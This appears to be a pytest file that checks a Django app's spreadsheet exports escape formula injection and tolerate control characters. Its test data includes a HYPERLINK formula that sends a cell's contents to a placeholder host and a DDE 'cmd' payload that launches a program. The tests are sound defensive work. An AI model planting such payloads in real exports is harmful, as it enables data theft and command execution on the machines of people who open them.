"""Spreadsheet exports (issue #9): imported names and free text come out as text, never as a live formula, and a name
with control characters never breaks the export (core.exports is the one writer)."""

import io

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from continuity import services
from continuity.models import Outcome, Scenario
from core.models import Role
from core.testing import login, user_with_role

from . import landscape_fixture

pytestmark = pytest.mark.django_db

HYPERLINK = '=HYPERLINK("http://x"&C2,"y")'


def url(name, s):
    return reverse(f"continuity:{name}", args=[s.municipality.cbs_code, s.pk])


def _export(client, s):
    from continuity import selectors

    services.store_impact(s, selectors.compute_impact(s))
    response = client.get(url("xlsx", s))
    assert response.status_code == 200
    return load_workbook(io.BytesIO(response.content))


def _cells(ws):
    return [cell for row in ws.iter_rows() for cell in row if cell.value is not None]


@pytest.fixture
def advisor_scenario(client):
    m, org, act, districts = landscape_fixture.build()
    login(client, user_with_role(Role.POLICY_ADVISOR, m))
    s = services.create_scenario(municipality=m, name="Aanbesteding", kind=Scenario.Kind.TENDER)
    return m, org, act, s


def test_xlsx_export_writes_an_imported_formula_name_as_text_not_formula(client, advisor_scenario):
    m, org, act, s = advisor_scenario
    org["A"].name = HYPERLINK
    org["A"].save()
    services.set_moves(s, [(act["a1"].pk, Outcome.TRANSFERS, "L1", "X")])
    wb = _export(client, s)
    names = [row[0] for row in wb["Organisaties"].iter_rows(min_row=2)]
    cell = next(c for c in names if HYPERLINK in str(c.value))
    assert cell.value == "'" + HYPERLINK and cell.data_type == "s"
    for ws in wb.worksheets:
        assert not [c.coordinate for c in _cells(ws) if c.data_type == "f"], ws.title


def test_xlsx_export_writes_free_text_of_the_moves_form_as_text_not_formula(client, advisor_scenario):
    m, org, act, s = advisor_scenario
    response = client.post(
        url("moves", s),
        {"activities": [act["b1"].pk], "outcome": Outcome.TRANSFERS, "lot": "+cmd|' /C calc'!A0", "winner": "@SUM(1)"},
    )
    assert response.status_code == 302
    wb = _export(client, s)
    rows = [[c.value for c in row] for row in wb["Activiteiten"].iter_rows(min_row=2)]
    moved = next(r for r in rows if r[0] == "Activiteit b1")
    assert "'+cmd|' /C calc'!A0" in moved and "'@SUM(1)" in moved
    for ws in wb.worksheets:
        assert not [c.coordinate for c in _cells(ws) if c.data_type == "f"], ws.title


def test_xlsx_export_of_a_name_with_control_characters_does_not_fail(client, advisor_scenario):
    m, org, act, s = advisor_scenario
    org["B"].name = "Klein\x0b Samen\x1b\x07"
    org["B"].save()
    services.set_moves(s, [(act["b1"].pk, Outcome.ENDS, "", "")])
    wb = _export(client, s)
    names = [row[0].value for row in wb["Organisaties"].iter_rows(min_row=2)]
    assert "Klein Samen" in names


def test_numbers_stay_numbers_and_negative_amounts_are_not_quoted():
    from decimal import Decimal

    from core.exports import csv_text, safe_cell

    assert safe_cell(-12) == -12 and safe_cell(Decimal("-3.50")) == Decimal("-3.50") and safe_cell(1.5) == 1.5
    assert safe_cell("-12.50") == "-12.50"  # a number written as text is no formula
    assert safe_cell("-1+1") == "'-1+1"
    for trigger in ("=", "+", "-", "@", "\t", "\r"):
        assert safe_cell(trigger + "A1") == "'" + trigger + "A1"
    assert safe_cell("Stichting = Samen") == "Stichting = Samen"
    assert csv_text(["Naam", "Bedrag"], [[HYPERLINK, -5]]).splitlines()[1] == '"\'=HYPERLINK(""http://x""&C2,""y"")";-5'
